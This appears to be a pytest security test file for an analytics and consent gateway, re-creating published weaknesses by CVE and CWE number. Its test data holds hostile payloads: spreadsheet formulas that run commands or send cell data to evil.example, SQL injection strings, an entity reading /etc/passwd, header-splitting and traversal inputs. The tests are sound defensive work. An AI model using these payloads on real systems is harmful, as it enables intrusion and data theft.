"""Weaknesses that were published about software of this kind, made again here; each test has the number of what it re-creates.

CVE and GHSA numbers are those of the components that this gateway is built on, CWE numbers those of MITRE's list.
"""

from __future__ import annotations

import csv
import io
import re
import time
import xml.etree.ElementTree as ElementTree

import pytest

from gateway.consent.choices import Answer
from gateway.errors import BadRequest
from gateway.reports import csv_export, filters
from gateway.reports.dimensions import FIELDS, Kind
from gateway.reports.matomo import formats
from gateway.reports.matomo.answers import Row
from gateway.reports.matomo.question import Format
from gateway.web.pages import local_path
from tests.security.surface import Actor, ways
from tests.security.test_other_origins import WORLD
from tests.web.visitors import AGENT, Browser, Served

FORM = "application/x-www-form-urlencoded"
EVIL = "evil.example"


# --- Forms that eat memory --------------------------------------------------------------------------------------------


def forms(gateway: Served) -> list[str]:
    """Forms that anybody may send without a log-in."""
    return ["/privacy/1", "/banner/1", "/login", "/index.php"]


def test_cve_2026_54283_limits_hold_for_urlencoded_forms(gateway: Served) -> None:
    """Starlette < 1.3.1 kept max_fields and max_part_size for multipart forms alone (GHSA-82w8-qh3p-5jfq)."""
    for path in forms(gateway):
        for body in (b"&".join(b"f%d=1" % number for number in range(400)), b"csrf=" + b"a" * 20_000, b"a" * 150_000):
            answer = Browser(gateway).send("POST", path, body, content_type=FORM, origin=gateway.url)
            assert answer.status_code in (400, 413), (path, body[:20], answer.status_code)


def test_cve_2024_47874_parts_without_a_file_name_have_a_size(gateway: Served) -> None:
    """Starlette < 0.40 buffered them without a limit (GHSA-f96h-pmfr-66vw); GHSA-pp6c-gr5w-3c5g: headers of a part likewise."""
    head = b'--x\r\nContent-Disposition: form-data; name="csrf"\r\n'
    bodies = {
        "a large field": head + b"\r\n" + b"a" * 190_000 + b"\r\n--x--\r\n",
        "a large header": head + b"X-Long: " + b"a" * 150_000 + b"\r\n\r\n1\r\n--x--\r\n",
        "many headers": head + b"X-A: b\r\n" * 15_000 + b"\r\n1\r\n--x--\r\n",
        "many fields": (head + b"\r\n1\r\n") * 2_000 + b"--x--\r\n",
        "a file": head.replace(b'"csrf"', b'"csrf"; filename="a"') + b"\r\n1\r\n--x--\r\n",
        "no end": head,
        "too large in all": b"a" * 300_000,
    }
    for path in forms(gateway):
        for name, body in bodies.items():
            began = time.thread_time()
            answer = Browser(gateway).send(
                "POST", path, body, content_type="multipart/form-data; boundary=x", origin=gateway.url
            )
            assert 400 <= answer.status_code < 500, (path, name, answer.status_code)
            assert time.thread_time() - began < 1, (path, name)


# --- Whose address is this --------------------------------------------------------------------------------------------


def test_cwe_644_the_host_header_names_nothing(gateway: Served, people: dict[str, Actor]) -> None:
    """Links, redirects and cookies are those of the public URL, whatever Host and its relatives say."""
    for way in ways(gateway):
        if way.path in ("/logout", "/account"):
            continue
        for actor in (people["nobody"], people["admin"]):
            answer = actor.ask(
                gateway, way, host=EVIL, x_forwarded_host=EVIL, x_forwarded_proto="http",
                x_original_url=f"//{EVIL}/", forwarded=f"host={EVIL}",
                x_rewrite_url=f"https://{EVIL}/", x_forwarded_prefix=f"//{EVIL}",
            )  # fmt: skip
            told = answer.text + str(answer.headers.multi_items())
            assert EVIL not in told, way.line


def test_cve_2026_54282_a_path_is_no_host(gateway: Served) -> None:
    """Starlette < 1.3.1 took "@evil.example" for the host of request.url (GHSA-jp82-jpqv-5vv3)."""
    from tests.security.fuzzing import Request, Target

    for path in (
        f"@{EVIL}",
        f"//{EVIL}/login",
        f"/\\{EVIL}",
        f"/login@{EVIL}",
        f"http://{EVIL}/sites/1",
        f"/sites/1@{EVIL}",
    ):
        said = gateway.run(Target(gateway).take(Request("GET", path, headers=((b"host", b"shop.example"),))))[0]
        assert said == "404", path


@pytest.mark.parametrize(
    "wanted",
    [
        "https://evil.example/", "//evil.example", "/\\evil.example", "\\\\evil.example", "/\t/evil.example", "/\n/evil.example",
        " //evil.example", "javascript:alert(1)", "https:evil.example", "/%0d%0aLocation:%20https://evil.example",
        "///evil.example",
        "http://shop.example@evil.example", "/..//evil.example", "data:text/html,x", "\x00//evil.example",
    ],
)  # fmt: skip
def test_cwe_601_nobody_is_sent_elsewhere(gateway: Served, people: dict[str, Actor], wanted: str) -> None:
    """After the log-in, after the choice of a language, and from the banner's form."""
    landed = local_path(wanted, "")
    assert landed.startswith("/") and not landed.startswith(("//", "/\\")) and not re.search(r"[\x00-\x20\\]", landed)
    assert local_path(wanted, "/stats").startswith("/stats/")
    cookie = f"gw_session={people['dpo'].session}"
    answer = gateway.request(
        "GET", "/login?next=" + "".join(f"%{byte:02x}" for byte in wanted.encode()), {"cookie": cookie}
    )
    assert answer.status_code == 303 and answer.headers["location"] == landed
    for query in (f"return={wanted}", f"return={wanted}&include=1"):
        encoded = "".join(f"%{byte:02x}" for byte in wanted.encode())
        answer = Browser(gateway).get(f"/banner/1?{query.replace(wanted, encoded)}")
        assert answer.status_code == 400 and "location" not in answer.headers


def test_cwe_349_the_embedded_script_cannot_be_poisoned(gateway: Served) -> None:
    """Its bytes depend on the version and the site's policy: on no header, no cookie and no parameter."""
    headers = {
        "host": EVIL, "x-forwarded-host": EVIL, "x-forwarded-proto": "http", "x-forwarded-for": "5.5.5.5", "origin": f"https://{EVIL}",
        "referer": f"https://{EVIL}/", "user-agent": f"{EVIL}<script>", "accept-language": "de", "sec-gpc": "1", "dnt": "1",
        "cookie": f"gw_choice_1={EVIL}; gw_optout_1=1; gw_language=de", "accept": "text/html", "x-original-url": "/login",
        "range": "bytes=0-9", "cache-control": "no-cache", "content-type": "text/html", "x-http-method-override": "POST",
        "if-modified-since": "Sun, 22 Nov 2026 12:00:00 GMT", "sec-fetch-site": "cross-site", "sec-fetch-dest": "script",
    }  # fmt: skip
    for path in ("/gateway/1.js", "/gateway/2.js", "/gateway.js", "/matomo.js"):
        plain = gateway.request("GET", path, {})
        seen = {
            (
                answer.status_code,
                answer.content,
                answer.headers["etag"],
                answer.headers["vary"],
                answer.headers["cache-control"],
            )
            for answer in (
                plain,
                gateway.request("GET", path, headers),
                *(gateway.request("GET", path, {name: value}) for name, value in headers.items()),
                gateway.request("GET", f"{path}?utm=1&host={EVIL}&callback={EVIL}&language=de&_={EVIL}", {}),
                gateway.request("GET", path, {}, body=f"host={EVIL}".encode()),
            )
        }
        assert len(seen) == 1, path
        assert plain.headers["vary"] == "Accept-Encoding" and "set-cookie" not in plain.headers
        assert EVIL not in plain.text
        for coding in ("br", "gzip", "br;q=0.5, gzip", "evil", "*"):
            assert gateway.request("GET", path, {"accept-encoding": coding}).content == plain.content
    assert gateway.request("GET", "/gateway/1.js", {}).content != gateway.request("GET", "/gateway/2.js", {}).content


def test_cwe_524_what_is_somebodys_is_in_no_shared_cache(gateway: Served, people: dict[str, Actor]) -> None:
    """Web cache deception: a path that looks like a file is no page, and pages are private."""
    for path in (
        "/sites/1/x.css",
        "/requests/x.js/y.css",
        "/audit/logo.png",
        "/sites/1.css",
        "/v1/stats/1.js",
        "/privacy/1/a.css",
    ):
        cookie = f"gw_session={people['admin'].session}"
        answer = gateway.request("GET", path, {"cookie": cookie})
        assert answer.status_code in (400, 404), path
    for way in ways(gateway):
        if way.method == "GET" and way.path not in WORLD and way.path != "/logout":
            answer = people["admin"].ask(gateway, way)
            if answer.status_code == 200 and "/assets/" not in way.path:
                assert "public" not in answer.headers.get("cache-control", "no-store"), way.line


# --- What is put into other languages ---------------------------------------------------------------------------------

FORMULAS = [
    "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1",
    " =1+1", "\u00a0=1+1", "\uff1d1+1", "\u3000=1", '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=IMPORTXML("//evil")', "\x0b=1",
]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_cwe_1236_no_cell_is_a_formula(formula: str) -> None:
    """CSV injection: a page's title is opened in a spreadsheet by somebody who trusts it."""
    ours = csv_export.write(["title", "visits"], [{"title": formula, "visits": -1}]).decode()
    told: Row = {"label": formula, "nb_visits": -1}
    theirs = formats.write([told], Format.CSV, unicode=False, titles=None).body.decode()
    for text in (ours, theirs):
        rows = list(csv.reader(io.StringIO(text, newline="")))
        cell, number = rows[1][:2]
        assert cell.startswith("'") and number == "-1", rows


STATEMENTS = [
    "'",
    "' OR 1=1 --",
    "\\'",
    "x') UNION ALL SELECT 1 --",
    "{f1:String}",
    "{p}",
    "\x00",
    "`v`",
    "%",
    "_",
    "a\nb",
    "$$",
    "*/ 1 /*",
]


def test_cwe_89_the_text_of_a_statement_holds_nothing_that_was_sent() -> None:
    """SQL in filters: for every field and operator the text is the same whatever the value is."""
    for name, field in FIELDS.items():
        operators = ("==", "!=", "=@", "!@", "=^", "=$") if field.kind in (Kind.TEXT, Kind.TEXTS) else ("==", ">", "<=")
        for operator in operators:
            told = set()
            for value in ["1", *STATEMENTS]:
                encoded = "".join(f"%{byte:02X}" for byte in value.encode())
                try:
                    sql, parameters = filters.to_sql(filters.parse(f"{name}{operator}{encoded}"))
                except BadRequest:
                    continue
                told.add(sql)
                assert value in parameters.values() or field.kind not in (Kind.TEXT, Kind.TEXTS), (name, value)
            assert len(told) <= 1, (name, operator, told)
    for text in (f"country{each}==1" for each in STATEMENTS):
        with pytest.raises(BadRequest):
            filters.to_sql(filters.parse(text))


@pytest.mark.parametrize(
    "label", ["</result><result>", "]]>", "<!ENTITY a SYSTEM 'file:///etc/passwd'>", "\x00\x08\ufffe", "&a;", '" x="']
)
def test_cwe_91_xml_answers_hold_what_was_sent_as_text(label: str) -> None:
    row: Row = {"label": label, label: 1}
    written = formats.write([row], Format.XML, unicode=False, titles=None).body
    found = ElementTree.fromstring(written)
    told = re.sub("[\x00\x08\ufffe]", "", label)
    assert (found.findtext("row/label") or "") == told
    assert "ENTITY" not in written.decode().replace("&lt;!ENTITY", "")


def test_cwe_113_no_header_is_split(gateway: Served, people: dict[str, Actor]) -> None:
    """What is sent comes back in no header of its own, in cookies, redirects and names of files alike."""
    split = "%0d%0aSet-Cookie:%20evil=1%0d%0a%0d%0a<script>"
    token = people["admin token"]
    for address in (
        f"/login?next=/{split}",
        f"/banner/1?return=https://shop.example/{split}",
        f"/v1/sites/1/notice?language={split}&subject={split}",
        f"/v1/stats/1?format=csv&dimension={split}",
        f"/index.php?module=API&method=VisitsSummary.get&idSite=1&period=day&date={split}&format=csv",
        f"/sites/1?filter={split}",
        f"/matomo.php?idsite=1&rec=1&url=https://shop.example/&_id={split}&uid={split}",
        f"/gateway/1.js?{split}",
        f"/{split}",
    ):
        answer = gateway.request("GET", address, {"authorization": f"Bearer {token.token}", "user-agent": AGENT})
        assert all("\r" not in value and "\n" not in value for value in answer.headers.values())
        assert "evil" not in answer.headers.get("set-cookie", "") and answer.status_code < 500


def test_cwe_674_nesting_is_refused(gateway: Served) -> None:
    for body in (b"[" * 60_000, b'{"a":' * 12_000, b'{"site":1,"purposes":' * 3_000, b'{"requests":' + b"[" * 50_000):
        for path in ("/v1/hit", "/v1/consent", "/v1/opt-out", "/matomo.php"):
            assert Browser(gateway).send("POST", path, body, content_type="application/json").status_code in (400, 413)


# --- Cookies and files ------------------------------------------------------------------------------------------------


def test_cwe_565_a_cookie_of_one_site_is_worth_nothing_on_another(gateway: Served) -> None:
    visitor = Browser(gateway)
    assert visitor.answer({"analytics": True}).status_code == 201
    mine = dict(visitor.cookies)
    moved = {name.replace("_1", "_2"): value for name, value in mine.items()}
    told = Browser(gateway, cookies=moved).get("/v1/consent?site=2").json()
    assert told["purposes"] is None and told["receipt"] is None
    forged = {name: value[:-1] + ("A" if value[-1] != "A" else "B") for name, value in mine.items()}
    assert Browser(gateway, cookies=forged).get("/v1/consent?site=1").json()["purposes"] is None


def test_cwe_22_nothing_outside_is_served(gateway: Served) -> None:
    for name in (
        "..%2fpages.py",
        "%2e%2e/%2e%2e/settings.py",
        "....//main.js",
        "%00main.js",
        "main.js%00",
        "C:%5cwindows",
        "/etc/passwd",
    ):
        for folder in ("/assets/dashboard/", "/gateway-ui.", "/"):
            answer = Browser(gateway).get(f"{folder}{name}")
            assert answer.status_code in (400, 404), (folder, name)


def test_cwe_915_unknown_fields_are_refused(gateway: Served) -> None:
    """Nothing is set by a field that nobody meant to be sent."""
    assert Answer.__struct_config__.forbid_unknown_fields
    for path, body in (
        ("/v1/hit", {"site": 1, "type": "pageview", "url": "https://shop.example/", "visitor": 1}),
        ("/v1/consent", {"site": 1, "purposes": {}, "id": "x", "country": "US"}),
        ("/v1/opt-out", {"site": 1, "what": "sale", "role": "admin"}),
    ):
        answer = Browser(gateway).post(path, body)
        assert answer.status_code == 400 and "unknown field" in answer.json()["error"]["what"].lower(), answer.text
